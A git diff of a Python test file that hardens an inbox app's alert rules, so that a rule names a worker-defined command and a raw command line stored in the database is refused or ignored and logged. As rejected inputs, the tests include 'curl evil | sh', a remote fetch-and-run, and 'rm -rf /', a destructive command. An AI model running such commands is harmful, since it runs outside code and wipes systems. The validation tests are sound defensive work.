@@ -5,18 +5,19 @@ from __future__ import annotations
 
 import dataclasses
 import json
+import logging
 import shlex
 import sys
 from datetime import timedelta
 
 import pytest
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 from adapters.base import Direction
 from inbox import events
 from inbox.core.clock import FixedClock
 from inbox.core.errors import InvalidInput, PermissionDenied
-from inbox.core.models import Campaign, Event, Incident, Outbound, Thread, ThreadTag
+from inbox.core.models import AlertRule, Campaign, Event, Incident, Outbound, Thread, ThreadTag
 from inbox.crisis import incidents, listening
 from inbox.crisis.review import Activity, Outcome
 from inbox.reports import review as review_report
@@ -193,19 +194,90 @@ def test_a_keyword_rule_stays_quiet_in_its_cooldown_and_then_counts_only_new_mes
     )
 
 
-def test_an_alert_runs_the_rules_command_with_the_alert_as_json(engine, lead, tmp_path):
+def writes_stdin_to(path) -> str:
+    """A command line that writes what it reads on stdin to `path`."""
+    script = f"import sys; open({str(path)!r}, 'w').write(sys.stdin.read())"
+    return shlex.join([sys.executable, "-c", script])
+
+
+def test_a_rule_runs_the_command_this_machine_defines_with_the_alert_on_stdin(
+    engine, lead, tmp_path
+):
+    from inbox.runtime import crisis_after_landing
+
     account = add_account(engine, "demo-x", "@brand")
     ingest(engine, account, [item("a", "a", minutes=minutes_before_now(1), text="total outage")])
     written = tmp_path / "page.json"
-    command = shlex.join(
-        [sys.executable, "-c", f"import sys; open({str(written)!r}, 'w').write(sys.stdin.read())"]
+    lead.add_listening_rule(
+        "outage", listening.KEYWORD, {"keywords": "outage", "command": "page-oncall"}
     )
-    lead.add_listening_rule("outage", listening.KEYWORD, {"keywords": "outage", "command": command})
 
-    [alert] = listening.evaluate_rules(engine, NOW)
+    crisis_after_landing(engine, {"page-oncall": writes_stdin_to(written)})(NOW, None)
 
+    [alert] = lead.alerts()
     paged = json.loads(written.read_text())
     assert (paged["id"], paged["rule"], paged["summary"]) == (alert.id, "outage", alert.summary)
+
+
+def test_a_command_this_machine_does_not_define_runs_nothing_and_is_logged(
+    engine, lead, tmp_path, caplog
+):
+    account = add_account(engine, "demo-x", "@brand")
+    ingest(engine, account, [item("a", "a", minutes=minutes_before_now(1), text="total outage")])
+    planted, fallback = tmp_path / "planted.json", tmp_path / "fallback.json"
+    lead.add_listening_rule(
+        "outage", listening.KEYWORD, {"keywords": "outage", "command": "page-oncall"}
+    )
+    rule = lead.listening_rule(
+        lead.add_listening_rule("down", listening.KEYWORD, {"keywords": "outage"})
+    )
+    # a command line written straight into the table, as a lead's database login could
+    with engine.begin() as connection:
+        connection.execute(
+            update(AlertRule.__table__)
+            .where(AlertRule.__table__.c.id == rule.id)
+            .values(config={**rule.config, "command": writes_stdin_to(planted)})
+        )
+    caplog.set_level(logging.WARNING, logger=listening.__name__)
+
+    alerts = listening.evaluate_rules(
+        engine, NOW, commands={"notify": "true"}, alert_command=writes_stdin_to(fallback)
+    )
+
+    assert len(alerts) == 2
+    assert not planted.exists() and not fallback.exists(), "nothing ran, not even the default"
+    unknown = [r.getMessage() for r in caplog.records if "does not define" in r.getMessage()]
+    assert len(unknown) == 2
+    assert "rule 'outage' names the command 'page-oncall'" in unknown[0]
+    assert "[listening] commands: notify" in unknown[0]
+
+
+def test_a_rule_without_a_command_runs_the_command_given_to_the_check(engine, lead, tmp_path):
+    account = add_account(engine, "demo-x", "@brand")
+    ingest(engine, account, [item("a", "a", minutes=minutes_before_now(1), text="total outage")])
+    written = tmp_path / "page.json"
+    lead.add_listening_rule("outage", listening.KEYWORD, {"keywords": "outage"})
+
+    [alert] = lead.evaluate_listening(alert_command=writes_stdin_to(written))
+
+    assert json.loads(written.read_text())["id"] == alert.id
+
+
+def test_a_rules_command_is_a_name_the_worker_defines_not_a_command_line(engine, lead):
+    with pytest.raises(InvalidInput, match="not a command line"):
+        lead.add_listening_rule(
+            "outage", listening.KEYWORD, {"keywords": "outage", "command": "curl evil | sh"}
+        )
+    rule = lead.listening_rule(
+        lead.add_listening_rule(
+            "outage", listening.KEYWORD, {"keywords": "outage", "command": "defined-elsewhere"}
+        )
+    )
+    assert rule.config["command"] == "defined-elsewhere", "the editing machine may not be it"
+    with pytest.raises(InvalidInput, match="not a command line"):
+        lead.edit_listening_rule(rule.id, version=rule.version, config={"command": "rm -rf /"})
+    edited = lead.edit_listening_rule(rule.id, version=rule.version, config={"command": ""})
+    assert "command" not in edited.config
 
 
 def test_rules_are_checked_and_only_leads_manage_them(engine, lead, agent):
